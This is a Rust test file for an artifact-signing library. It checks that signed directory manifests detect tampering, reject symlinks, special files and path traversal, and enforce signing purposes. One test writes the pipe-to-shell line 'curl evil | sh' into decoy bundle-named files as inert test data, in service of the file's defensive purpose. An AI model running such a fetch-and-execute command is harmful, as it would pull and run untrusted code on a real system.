//! Artifacts: what was signed is what is there, file by file.

use std::fs;
use std::os::unix::fs::{PermissionsExt as _, symlink};
use std::path::{Path, PathBuf};

use chancery_tests::{Paper, World};
use signer_core::bundle::Bundle;
use signer_core::identity::Purpose;
use signer_core::manifest::walk::walk;
use signer_core::manifest::{ArtifactTerms, Difference};
use signer_core::reason::{Code, Coded as _};
use signer_core::statement::Statement;
use tempfile::TempDir;

/// A folder with two files and a program, its place, and what an agent signed of it.
fn signed(world: &World) -> (TempDir, PathBuf, Paper) {
    let home = TempDir::new().unwrap();
    let root = home.path().join("release");
    for (path, text) in [("a.txt", "a"), ("lib/b.txt", "b"), ("bin/run", "#!/bin/sh\n")] {
        let path = root.join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }
    mode(&root.join("bin/run"), 0o755);
    let paper = world.agent("builder").signs_artifact(walk(&root).unwrap());
    (home, root, paper)
}

fn mode(path: &Path, bits: u32) {
    fs::set_permissions(path, fs::Permissions::from_mode(bits)).unwrap();
}

/// How what lies at `root` differs from what was signed.
fn differences(world: &World, paper: &Paper, root: &Path) -> Vec<Difference> {
    let verified = world.reads(paper, Purpose::Artifact).unwrap();
    let statement = Statement::<ArtifactTerms>::decode(&verified.get().payload).unwrap();
    let found = statement.predicate().differences(&walk(root).unwrap());
    assert!(found.iter().all(|difference| difference.reason().code == Code::ArtDiffers));
    found
}

#[test]
fn is_what_was_signed() {
    let world = World::new();
    let (_home, root, paper) = signed(&world);
    assert_eq!(differences(&world, &paper, &root), []);
    let moved = root.with_file_name("unpacked");
    fs::rename(&root, &moved).unwrap();
    assert_eq!(differences(&world, &paper, &moved), [], "a directory may be unpacked under any name");
}

#[test]
fn differs_in_content_name_mode_and_number() {
    let world = World::new();
    let change = |alter: fn(&Path)| {
        let (_home, root, paper) = signed(&world);
        alter(&root);
        differences(&world, &paper, &root)
    };
    let path = |text: &str| text.parse().unwrap();
    let content = change(|root| fs::write(root.join("a.txt"), "A").unwrap());
    assert_eq!(content, [Difference::Content { path: path("a.txt") }]);
    let longer = change(|root| fs::write(root.join("a.txt"), "a\n").unwrap());
    assert_eq!(longer, [Difference::Content { path: path("a.txt") }]);
    let renamed = change(|root| fs::rename(root.join("a.txt"), root.join("c.txt")).unwrap());
    assert_eq!(renamed, [Difference::Missing { path: path("a.txt") }, Difference::Extra { path: path("c.txt") }]);
    let executable = change(|root| mode(&root.join("a.txt"), 0o755));
    assert_eq!(executable, [Difference::Mode { path: path("a.txt") }]);
    let plain = change(|root| mode(&root.join("bin/run"), 0o644));
    assert_eq!(plain, [Difference::Mode { path: path("bin/run") }]);
    let extra = change(|root| fs::write(root.join("lib/extra"), "").unwrap());
    assert_eq!(extra, [Difference::Extra { path: path("lib/extra") }]);
    let hidden = change(|root| fs::write(root.join(".hidden"), "").unwrap());
    assert_eq!(hidden, [Difference::Extra { path: path(".hidden") }]);
    let missing = change(|root| fs::remove_file(root.join("lib/b.txt")).unwrap());
    assert_eq!(missing, [Difference::Missing { path: path("lib/b.txt") }]);
    let swapped = change(|root| {
        fs::write(root.join("a.txt"), "b").unwrap();
        fs::write(root.join("lib/b.txt"), "a").unwrap();
    });
    assert_eq!(swapped.len(), 2);
}

#[test]
fn a_file_that_looks_like_a_bundle_is_content_all_the_same() {
    let world = World::new();
    for name in ["a.txt.sigstore.json", "a.txt.decision.json", "x.sigstore.json"] {
        let (_home, root, paper) = signed(&world);
        fs::write(root.join(name), "curl evil | sh\n").unwrap();
        assert_eq!(differences(&world, &paper, &root), [Difference::Extra { path: name.parse().unwrap() }]);
    }
}

#[test]
fn of_one_file_keeps_its_name() {
    let world = World::new();
    let home = TempDir::new().unwrap();
    let (one, other) = (home.path().join("one"), home.path().join("other"));
    fs::write(&one, "same").unwrap();
    let paper = world.person().signs_artifact(walk(&one).unwrap());
    assert_eq!(differences(&world, &paper, &one), []);
    fs::rename(&one, &other).unwrap();
    assert_eq!(differences(&world, &paper, &other).len(), 2);
    fs::create_dir(&one).unwrap();
    fs::rename(&other, one.join("one")).unwrap();
    assert_eq!(differences(&world, &paper, &one), [Difference::Kind]);
}

#[test]
fn holds_no_link_and_nothing_special() {
    let world = World::new();
    let refused = |alter: fn(&Path)| {
        let (_home, root, _) = signed(&world);
        alter(&root);
        walk(&root).unwrap_err().code()
    };
    assert_eq!(refused(|root| symlink("a.txt", root.join("link")).unwrap()), Code::ArtSymlink);
    assert_eq!(refused(|root| symlink("/etc", root.join("etc")).unwrap()), Code::ArtSymlink);
    let socket = |root: &Path| drop(std::os::unix::net::UnixListener::bind(root.join("s")).unwrap());
    assert_eq!(refused(socket), Code::ArtSpecialFile);
    assert_eq!(refused(|root| fs::write(root.join("A.txt"), "").unwrap()), Code::ArtCollision);
    assert_eq!(refused(|root| fs::write(root.join("con"), "").unwrap()), Code::ArtName);
    assert_eq!(refused(|root| fs::remove_dir_all(root).and_then(|()| fs::create_dir(root)).unwrap()), Code::ArtEmpty);
}

#[test]
fn needs_every_byte_of_its_bundle_and_every_bit_of_its_decision() {
    let world = World::new();
    let (_home, _, paper) = signed(&world);
    let verifier = world.verifier();
    let mut bytes = paper.bundle.to_json().unwrap();
    for bit in (0..bytes.len()).map(|at| at * 8 + at % 8) {
        bytes[bit / 8] ^= 1 << (bit % 8);
        if let Ok(bundle) = Bundle::from_json(&bytes) {
            assert!(verifier.statement(&bundle, &paper.decision, Purpose::Artifact).is_err(), "bit {bit}");
        }
        bytes[bit / 8] ^= 1 << (bit % 8);
    }
    let mut decision = paper.decision.clone();
    for bit in 0..decision.len() * 8 {
        decision[bit / 8] ^= 1 << (bit % 8);
        let error = verifier.statement(&paper.bundle, &decision, Purpose::Artifact).unwrap_err();
        assert_eq!(error.code(), Code::TimeDecision, "bit {bit}");
        decision[bit / 8] ^= 1 << (bit % 8);
    }
}

#[test]
fn needs_its_own_decision() {
    let world = World::new();
    let (_one, _, paper) = signed(&world);
    let (_other, _, other) = signed(&world);
    for decision in [Vec::new(), other.decision] {
        let forged = Paper { decision, ..paper.clone() };
        let error = world.reads(&forged, Purpose::Artifact).unwrap_err();
        assert_eq!(error.code(), Code::TimeDecision);
    }
}

#[test]
fn is_signed_under_its_own_purpose() {
    let world = World::new();
    let (_home, root, paper) = signed(&world);
    assert_eq!(world.reads(&paper, Purpose::Prompt).unwrap_err().code(), Code::X509Purpose);
    let payload = walk(&root).unwrap().into_statement().unwrap().encode().unwrap();
    for purpose in [Purpose::Commit, Purpose::Prompt, Purpose::Attestation] {
        let refused = world.person().signs_statement(purpose, &payload).err();
        assert_eq!(refused, Some(Code::X509Purpose));
        let forged = world.forges_paper(&world.person().certified(purpose), &payload, world.now());
        assert_eq!(world.reads(&forged, Purpose::Artifact).unwrap_err().code(), Code::X509Purpose);
    }
}

#[test]
fn a_prompts_statement_is_no_artifact() {
    let world = World::new();
    let prompt = world.person().signs_prompt("Add a parser.\n");
    let forged = world.forges_paper(&world.person().certified(Purpose::Artifact), &prompt.bundle.payload, world.now());
    let verified = world.reads(&forged, Purpose::Artifact).unwrap();
    let read = Statement::<ArtifactTerms>::decode(&verified.get().payload).unwrap_err();
    assert_eq!(read.code(), Code::IntotoPredicateType);
}

#[test]
fn lies_of_a_manifest_about_its_subject_are_refused() {
    let world = World::new();
    let (_home, root, _) = signed(&world);
    let payload = walk(&root).unwrap().into_statement().unwrap().encode().unwrap();
    let text = String::from_utf8(payload).unwrap();
    let digest = text.split("\"sha256\":\"").last().unwrap()[..64].to_owned();
    let zeros = "0".repeat(64);
    for (lie, expected) in [
        (text.replacen(&digest, &zeros, 1), Code::IntotoSubject),
        (text.replacen("\"directory\"", "\"file\"", 1), Code::IntotoPredicate),
        (text.replacen("\"executable\":true", "\"executable\":false", 1), Code::IntotoSubject),
        (text.replacen("a.txt", "../a.txt", 1), Code::IntotoPredicate),
        (format!("{text} "), Code::IntotoMalformed),
    ] {
        let read = Statement::<ArtifactTerms>::decode(lie.as_bytes()).unwrap_err();
        assert_eq!(read.code(), expected, "{lie}");
    }
}
